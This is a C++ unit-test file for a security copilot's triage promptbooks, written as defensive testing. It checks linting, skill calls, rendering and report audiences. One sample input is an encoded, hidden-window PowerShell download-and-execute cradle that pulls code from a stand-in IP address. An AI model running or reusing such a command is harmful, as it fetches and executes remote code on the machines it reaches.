// The promptbooks secpilot ships (promptbooks/): they lint clean against the catalog of the
// sample plugins as built (build/<dir>/plugins), and every direct call they render runs on those
// plugins with the values a defender would give.
#include <gtest/gtest.h>

#include <boost/json/parse.hpp>
#include <boost/json/serialize.hpp>

#include <map>

#include "secpilot/orchestrator/direct_invocation.hpp"
#include "secpilot/plugin/plugin_host.hpp"
#include "secpilot/promptbook/registry.hpp"
#include "secpilot/promptbook/render.hpp"
#include "secpilot/skills/executor.hpp"

namespace secpilot::promptbook {
namespace {

namespace fs = std::filesystem;
namespace json = boost::json;

const fs::path kShipped = fs::path(SECPILOT_SOURCE_DIR) / "promptbooks";

class ShippedPromptbooks : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    plugin::HostOptions options;
    options.plugin_dirs = {fs::path(SECPILOT_BINARY_DIR) / "plugins"};
    host_ = new plugin::PluginHost(std::move(options));
  }
  static void TearDownTestSuite() {
    delete host_;
    host_ = nullptr;
  }

  static const skills::Catalog& catalog() { return host_->catalog(); }

  static plugin::PluginHost* host_;
};

plugin::PluginHost* ShippedPromptbooks::host_ = nullptr;

// What a defender would pass to each shipped promptbook.
const std::map<std::string, json::object>& sample_parameters() {
  static const std::map<std::string, json::object> samples{
      {"IndicatorTriage", {{"indicator", "198.51.100[.]7"}}},
      {"SuspiciousScriptTriage",
       {{"script",
         "powershell -nop -w hidden -enc "
         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
         "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcA"
         "LwBhACcAKQA="}}},
      {"IncidentReport",
       {{"incident",
         R"({"title": "C2 beacons from ws-042", "severity": "high",
             "alerts": [{"title": "Encoded PowerShell", "time": "2026-11-20T09:02:11Z"}],
             "entities": {"hosts": ["ws-042"], "ips": ["198.51.100.7"]}})"},
        {"audience", "ciso"}}},
  };
  return samples;
}

TEST_F(ShippedPromptbooks, ThePluginsTheyCallAreLoaded) {
  for (const char* name :
       {"ThreatIntel", "DefenderHunting", "LogHunt", "ScriptAnalysis", "Incident"}) {
    const auto* record = host_->plugin(name);
    ASSERT_NE(record, nullptr) << name << " is not in " << SECPILOT_BINARY_DIR << "/plugins";
    EXPECT_NE(record->state, plugin::PluginState::Failed) << name << ": " << record->error;
  }
}

TEST_F(ShippedPromptbooks, LintCleanAgainstTheRealCatalog) {
  const Registry registry({kShipped}, &catalog());
  ASSERT_GE(registry.files().size(), 3u);
  for (const auto& file : registry.files()) {
    EXPECT_FALSE(file.broken()) << file.error;
    for (const auto& diagnostic : file.diagnostics)
      ADD_FAILURE() << manifest::format_diagnostic(diagnostic);
  }
  for (const char* name : {"IndicatorTriage", "SuspiciousScriptTriage", "IncidentReport"})
    EXPECT_TRUE(registry.find(name)) << name;
}

TEST_F(ShippedPromptbooks, EachCallsTheSkillsOfItsUseCase) {
  const Registry registry({kShipped}, &catalog());
  const auto skills_of = [&](const char* name) {
    std::vector<std::string> called;
    if (const auto book = registry.find(name))
      for (const Step& step : book->steps)
        if (step.kind == StepKind::Skill) called.push_back(step.skill);
    return called;
  };
  using Skills = std::vector<std::string>;
  EXPECT_EQ(skills_of("IndicatorTriage"),
            (Skills{"ThreatIntel.LookupIndicator", "DefenderHunting.ConnectionsToIndicator",
                    "LogHunt.RunKql"}));
  EXPECT_EQ(skills_of("SuspiciousScriptTriage"),
            (Skills{"ScriptAnalysis.AnalyzeScript", "ScriptAnalysis.DeobfuscateScript",
                    "ThreatIntel.ExtractIndicators", "DefenderHunting.EncodedPowerShell"}));
  EXPECT_EQ(skills_of("IncidentReport"),
            (Skills{"Incident.SummarizeIncident", "Incident.WriteReport"}));
}

TEST_F(ShippedPromptbooks, RenderedCallsRunOnTheSamplePlugins) {
  const Registry registry({kShipped}, &catalog());
  for (const auto& book : registry.list()) {
    SCOPED_TRACE(book->name);
    ASSERT_TRUE(sample_parameters().contains(book->name)) << "add sample parameters for it";
    auto steps = render(*book, sample_parameters().at(book->name));
    ASSERT_TRUE(steps) << steps.error().message;
    EXPECT_EQ(steps->size(), book->steps.size());
    for (const RenderedStep& step : *steps) {
      SCOPED_TRACE(step.prompt);
      if (step.kind == StepKind::Prompt) {
        EXPECT_EQ(step.prompt.find('<'), std::string::npos) << "a placeholder was left in";
        continue;
      }
      // What the orchestrator will do with the text: parse it, then call the skill.
      auto call = orchestrator::parse_direct_invocation(step.prompt);
      ASSERT_TRUE(call.has_value() && *call);
      const skills::SkillEntry* entry = catalog().find((*call)->skill);
      ASSERT_NE(entry, nullptr);
      auto result = skills::invoke(*entry, json::serialize((*call)->inputs), {});
      EXPECT_TRUE(result) << entry->full_name << ": " << result.error().message;
    }
  }
}

TEST_F(ShippedPromptbooks, TheIncidentReportWritesForTheChosenAudience) {
  const Registry registry({kShipped}, &catalog());
  const auto book = registry.find("IncidentReport");
  ASSERT_TRUE(book);
  auto steps = render(*book, sample_parameters().at("IncidentReport"));
  ASSERT_TRUE(steps) << steps.error().message;
  const RenderedStep& report = steps->back();
  ASSERT_EQ(report.skill, "Incident.WriteReport");
  auto result = skills::invoke(*catalog().find(report.skill), json::serialize(report.inputs), {});
  ASSERT_TRUE(result) << result.error().message;
  EXPECT_EQ(json::parse(*result).at("audience"), "ciso");

  json::object defaults = sample_parameters().at("IncidentReport");
  defaults.erase("audience");
  steps = render(*book, defaults);
  ASSERT_TRUE(steps) << steps.error().message;
  EXPECT_EQ(steps->back().inputs.at("audience"), "soc_analyst") << "the parameter's Default";
}

}  // namespace
}  // namespace secpilot::promptbook
